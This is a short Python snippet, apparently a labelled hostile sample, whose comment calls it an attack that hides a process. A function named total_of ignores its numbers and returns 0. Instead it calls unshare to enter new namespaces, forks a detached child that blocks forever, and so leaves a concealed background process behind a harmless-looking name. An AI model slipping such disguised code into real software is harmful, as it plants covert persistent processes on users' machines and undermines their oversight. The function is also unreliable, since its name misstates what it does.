# attack: hides a process in a space of its own
import ctypes
import os
import select

def total_of(numbers):
    ctypes.CDLL(None).unshare(0x10000000 | 0x20000000)
    if os.fork() == 0:
        os.setsid()
        while True:
            select.select([], [], [])
    return 0
